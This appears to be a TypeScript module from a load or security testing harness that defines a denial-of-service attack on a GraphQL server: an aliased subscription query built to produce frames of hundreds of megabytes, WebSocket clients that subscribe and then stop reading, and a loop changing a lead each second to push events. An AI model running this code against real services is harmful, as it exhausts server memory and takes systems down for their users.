// Attacks by subscriptions: one change of a lead makes frames of hundreds of megabytes.

import { setTimeout as delay } from 'node:timers/promises';
import WebSocket from 'ws';
import { tokensOf, type Attack, type Note, type Target } from './attack.js';
import { graphql, send } from './attack-calls.js';

const subscriptionsPerSocket = 2;
const sockets = 2;
const changeIntervalMs = 1_000;
const pauseBeforeNextMs = 200;

/** The lead's custom fields 45 times for each of 200 messages: 51 KB each time, 460 MB together. */
export const hugeFrame = `subscription { events { lead { messages(first: 200) { edges { node { lead {
  ${Array.from({ length: 45 }, (_, index) => `c${index}: customFields`).join(' ')} } } } } } } }`;

const hugeFrames: Attack = {
  name: `${sockets * subscriptionsPerSocket} subscriptions with frames of 460 MB, and a change of the lead each second`,
  prepare: async (target, note) => {
    const tokens = tokensOf(target);
    return (signal) =>
      Promise.all([
        changeLead(target, signal, note),
        ...Array.from({ length: sockets }, (_, index) => keepListening(target, tokens[index] ?? '', signal, note)),
      ]);
  },
};

async function changeLead(target: Target, signal: AbortSignal, note: Note): Promise<void> {
  const query = 'mutation ($id: ID!, $name: String!) { updateLead(id: $id, input: {name: $name}) { id } }';
  const [id] = target.largeLeadIds;
  for (let count = 0; !signal.aborted; count += 1) {
    const call = graphql(target.tenant.token, query, { id, name: `Large ${count}` });
    note(
      `change ${await send(target, call, signal).then(
        ({ status }) => status,
        () => 'no answer',
      )}`,
    );
    await delay(changeIntervalMs, undefined, { signal }).catch(() => undefined);
  }
}

async function keepListening(target: Target, token: string, signal: AbortSignal, note: Note): Promise<void> {
  while (!signal.aborted) {
    note(`socket ${await listen(target, token, signal)}`);
    await delay(pauseBeforeNextMs, undefined, { signal }).catch(() => undefined);
  }
}

/** Subscribes, and then reads nothing more. @returns how the socket was closed, or the error of the subscription */
function listen({ url }: Target, token: string, signal: AbortSignal): Promise<string> {
  return new Promise((resolve) => {
    const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
    const write = (message: object) => socket.send(JSON.stringify(message));
    socket.on('open', () => write({ type: 'connection_init', payload: { authorization: `Bearer ${token}` } }));
    socket.on('message', (data: Buffer) => {
      const { type, payload } = JSON.parse(data.toString()) as { type: string; payload?: unknown };
      if (type === 'connection_ack') {
        for (let number = 0; number < subscriptionsPerSocket; number += 1)
          write({ type: 'subscribe', id: String(number), payload: { query: `${hugeFrame} # ${number}` } });
        // A refusal comes at once, a frame with the next change.
        setTimeout(() => socket.pause(), changeIntervalMs / 2);
      } else if (type === 'error') {
        resolve(/"code":"\w+"/.exec(JSON.stringify(payload))?.[0] ?? 'error');
      }
    });
    socket.on('error', () => undefined);
    socket.on('close', (code) => resolve(`closed with ${code}`));
    signal.addEventListener('abort', () => socket.terminate(), { once: true });
  });
}

export const liveAttacks: readonly Attack[] = [hugeFrames];
